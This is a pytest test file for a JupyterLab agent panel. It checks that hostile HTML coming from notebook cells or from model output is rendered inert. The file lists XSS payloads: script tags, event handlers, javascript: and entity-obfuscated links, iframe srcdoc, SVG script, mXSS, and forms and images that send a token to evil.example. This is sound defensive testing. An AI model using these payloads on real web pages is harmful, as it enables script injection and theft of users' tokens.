"""The panel's renderers as strings: sandbox and model content is data, never live markup.

Each payload here is what a hostile cell could print (or a steered model could write); the
rendered HTML is what ``ipywidgets.HTML`` would set as ``innerHTML`` in the user's JupyterLab.
tests/security/test_panel_html.py runs the same attacks in a real browser.
"""

from __future__ import annotations

import base64
from html.parser import HTMLParser

import pytest

from codeagent_jupyter import events as ev
from codeagent_jupyter.timeline.fold import SessionState, fold, reduce
from codeagent_jupyter.timeline.state import CellItem, FinishedItem, PromptItem, TextItem, ToolItem
from codeagent_jupyter.widget import render
from codeagent_jupyter.widget.panel import AgentPanel
from codeagent_jupyter.widget.views import FinishedView, PromptView, TextView, ToolView

DATAFRAME = (
    "<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>"
    '<table border="1" class="dataframe"><thead><tr style="text-align: right;">'
    "<th></th><th>month</th><th>revenue</th></tr></thead><tbody>"
    "<tr><th>0</th><td>Jan</td><td>120</td></tr>"
    "<tr><th>1</th><td>Feb</td><td>180</td></tr></tbody></table></div>"
)
ATTACKS = {
    "script": "<script>window.__pwned = 1</script>",
    "onerror": '<img src=x onerror="window.__pwned = 1">',
    "onload": '<body onload="window.__pwned = 1"><div onmouseover="window.__pwned = 1">x</div>',
    "javascript-link": '<a href="javascript:window.__pwned = 1">click</a>',
    "javascript-entity": '<a href="jav&#x61;script&#58;window.__pwned=1">click</a>',
    "iframe": '<iframe src="javascript:parent.__pwned = 1"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    "foreignObject": (
        '<svg><foreignObject><img src=x onerror="window.__pwned = 1"></foreignObject></svg>'
    ),
    "svg-script": "<svg><script>window.__pwned = 1</script></svg>",
    "svg-onload": '<svg onload="window.__pwned = 1"><circle r="5"/></svg>',
    "form": (
        '<form action="https://evil.example/steal"><input name=token><button>go</button></form>'
    ),
    "object": '<object data="javascript:window.__pwned = 1"></object><embed src="x.swf">',
    "link-meta-base": (
        '<link rel=stylesheet href="https://evil.example/x.css">'
        '<meta http-equiv="refresh" content="0;url=https://evil.example">'
        '<base href="https://evil.example/">'
    ),
    "remote-img": '<img src="http://evil.example/track.png?token=abc">',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;z-index:9999">fake</div>',
    "css-url": '<td style="background-color: url(https://evil.example/x)">v</td>',
    "comment-mxss": '<!--<img src="--><img src=x onerror="window.__pwned = 1">-->',
}
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
    'onload="window.__pwned = 1"><script>window.__pwned = 1</script>'
    '<circle cx="20" cy="20" r="10"/></svg>'
)


class _Tags(HTMLParser):
    """Every tag and attribute in a fragment, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parse(fragment: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    return parser.tags


def assert_inert(fragment: str) -> None:
    """No element or attribute in ``fragment`` can run script, load a URL or overlay the UI."""
    forbidden_tags = {"script", "iframe", "svg", "foreignobject", "form", "input", "button"}
    forbidden_tags |= {"object", "embed", "link", "meta", "base", "style", "body", "math"}
    for tag, attrs in parse(fragment):
        assert tag not in forbidden_tags, fragment
        for name, value in attrs.items():
            assert not name.startswith("on"), fragment
            assert name not in ("srcdoc", "action", "formaction", "id"), fragment
            value = (value or "").lower()
            if name == "src":
                assert value.startswith("data:image/"), fragment
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:")), fragment
            if name == "style":
                assert "position" not in value and "url(" not in value, fragment


def html_output(markup: str) -> dict[str, object]:
    return {"output_type": "display_data", "data": {"text/html": markup, "text/plain": "x"}}


def test_a_dataframe_survives_as_a_table() -> None:
    out = render.output_html(html_output(DATAFRAME))
    tags = [tag for tag, _ in parse(out)]
    assert tags.count("table") == 1 and tags.count("tr") == 3 and tags.count("td") == 4
    assert ">Feb<" in out and ">180<" in out and ">revenue<" in out
    assert '<table border="1">' in out
    assert '<tr style="text-align:right">' in out  # pandas' header alignment is kept
    assert "vertical-align" not in out  # the <style> element is gone with its CSS
    assert "jp-RenderedHTMLCommon" in out  # our wrapper gives it JupyterLab's table look
    assert_inert(out)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_html_attacks_are_removed(name: str) -> None:
    out = render.output_html(html_output(f"<p>before</p>{ATTACKS[name]}<p>after</p>"))
    assert "before" in out and "after" in out  # the harmless content is still shown
    assert_inert(out)
    assert "__pwned" not in out and "evil.example" not in out
    assert "javascript" not in out.lower()


def test_a_cell_with_hostile_html_renders_inert() -> None:
    outputs = (*(html_output(a) for a in ATTACKS.values()), html_output(DATAFRAME))
    cell = CellItem("cell-1", "c1", 1, 1, "run_cell", "print('hi')", outputs, status="ok")
    out = render.cell_html(cell)
    assert_inert(out)
    assert "__pwned" not in out and ">Jan<" in out


def test_svg_becomes_a_data_url_image() -> None:
    out = render.output_html({"output_type": "display_data", "data": {"image/svg+xml": SVG}})
    tags = parse(out)
    assert [tag for tag, _ in tags] == ["img"]
    src = str(tags[0][1]["src"])
    prefix = "data:image/svg+xml;base64,"
    assert src.startswith(prefix)
    assert base64.b64decode(src[len(prefix) :]).decode() == SVG  # the picture is intact
    assert "<svg" not in out and "onload" not in out and "<script" not in out


def test_svg_split_into_lines_is_one_document() -> None:
    lines = [SVG[:30], SVG[30:]]
    out = render.output_html({"output_type": "display_data", "data": {"image/svg+xml": lines}})
    src = str(parse(out)[0][1]["src"])
    assert base64.b64decode(src.split(",", 1)[1]).decode() == SVG


@pytest.mark.parametrize(
    "payload",
    ['AAAA" onerror="window.__pwned=1', 'AAAA"><script>window.__pwned=1</script>', "*&<>"],
)
def test_image_data_that_is_not_base64_cannot_break_out(payload: str) -> None:
    out = render.output_html({"output_type": "display_data", "data": {"image/png": payload}})
    assert_inert(out)
    assert "<img" not in out and "__pwned" not in out
    assert "not base64 image data" in out


def test_png_still_shows_as_an_image() -> None:
    b64 = base64.b64encode(b"\x89PNG\r\n\x1a\nfake").decode()
    wrapped = b64[:8] + "\n" + b64[8:] + "\n"
    out = render.output_html({"output_type": "display_data", "data": {"image/png": wrapped}})
    assert f'src="data:image/png;base64,{b64}"' in out and 'class="codeagent-plot"' in out


MODEL_TEXT = (
    'Done <img src=x onerror="window.__pwned = 1"> <script>window.__pwned = 1</script> '
    "[click](javascript:window.__pwned=1) ![chart](http://evil.example/x.png) **210 in April**"
)


def test_model_markdown_is_escaped_and_sanitized() -> None:
    out = render.markdown_html(MODEL_TEXT)
    assert_inert(out)
    assert "&lt;img src=x onerror=" in out  # shown as text, not parsed
    assert "<strong>210 in April</strong>" in out  # Markdown still works
    assert "evil.example" not in out and "javascript" not in out.lower()
    assert "<img" not in out.replace('<img alt="chart">', "")  # no remote image fetched


def test_model_links_keep_safe_urls() -> None:
    out = render.markdown_html("see [the docs](https://pandas.pydata.org/docs/)")
    links = [attrs for tag, attrs in parse(out) if tag == "a"]
    assert links == [
        {
            "href": "https://pandas.pydata.org/docs/",
            "target": "_blank",  # never navigates JupyterLab itself away
            "rel": "noopener noreferrer nofollow",
        }
    ]


def test_every_item_escapes_model_and_sandbox_text() -> None:
    evil = '<img src=x onerror="window.__pwned = 1">'
    views = [
        PromptView.render(None, PromptItem("p", evil, 0)),  # type: ignore[arg-type]
        TextView.render(None, TextItem("t", 1, evil, True)),  # type: ignore[arg-type]
        ToolView.render(
            None,  # type: ignore[arg-type]
            ToolItem("x", "c", 1, evil, {"path": evil}, status=evil, result=evil),
        ),
        FinishedView.render(None, FinishedItem("f", evil, evil, evil, 1, 0.5)),  # type: ignore[arg-type]
        render.plan_html(({"step": evil, "status": evil},)),
        render.arguments_html({"path": evil, "content": evil}),
        render.cell_header(
            CellItem("c", "c", 1, 1, "run_cell", evil, status=evil, note=evil),
        ),
        render.output_html({"output_type": "stream", "name": "stdout", "text": evil}),
        render.output_html({"output_type": "error", "traceback": [evil], "ename": evil}),
        render.output_html({"output_type": "display_data", "data": {"text/markdown": evil}}),
        render.output_html({"output_type": "display_data", "data": {"text/plain": evil}}),
        render.code_html(evil),
    ]
    for out in views:
        assert_inert(out)
        assert "<img" not in out, out
    state = SessionState(status=evil, model=evil, retry=evil)
    assert_inert(render.status_html(state, now=0.0))


def _started(enforcement: dict[str, str]) -> SessionState:
    return reduce(SessionState(), ev.RunStarted(seq=0, prompt="p", enforcement=enforcement))


CONFINED = {"filesystem": "bwrap", "pid": "bwrap", "network": "bwrap", "user": "uid 65534"}


def test_unconfined_banner() -> None:
    assert render.banner_html(SessionState()) == ""  # nothing reported yet is not "unconfined"
    assert render.banner_html(_started(CONFINED)) == ""
    banner = render.banner_html(_started({**CONFINED, "filesystem": "none", "pid": "none"}))
    assert 'class="codeagent-unconfined"' in banner and 'role="alert"' in banner
    assert "UNCONFINED" in banner and "no filesystem and no pid isolation" in banner
    assert f"background:{render.RED}" in banner


def test_the_panel_shows_the_banner_first() -> None:
    """The real panel, fed the run's first event as the server sends it."""
    panel = AgentPanel(None)
    header = panel.widget.children[0].children
    assert header[0].layout.display == "none"  # the panel's stylesheet, never shown
    assert header[1] is panel.banner and panel.banner.value == ""
    unconfined = {**CONFINED, "filesystem": "none", "pid": "none"}
    panel.apply(ev.RunStarted(seq=0, prompt="p", enforcement=unconfined))
    assert "UNCONFINED" in panel.banner.value
    panel.apply(ev.RunStarted(seq=1, prompt="q", enforcement=CONFINED))
    assert panel.banner.value == ""  # a follow-up in a confined sandbox clears it
    panel.close()


def test_a_model_note_is_not_shown_as_a_failure() -> None:
    """Attempt 0 of ``model_retry`` is a note (streaming turned off), not a failed request."""
    reason = "this server cannot stream tool calls; asking without streaming from now on"
    note = fold([ev.ModelRetry(seq=0, attempt=0, wait_s=0, reason=reason)])
    assert note.retry == f"note: {reason}"
    failed = fold([ev.ModelRetry(seq=0, attempt=2, wait_s=1.5, reason="503")])
    assert failed.retry == "model request failed (503); retry 2 in 1.5 s"
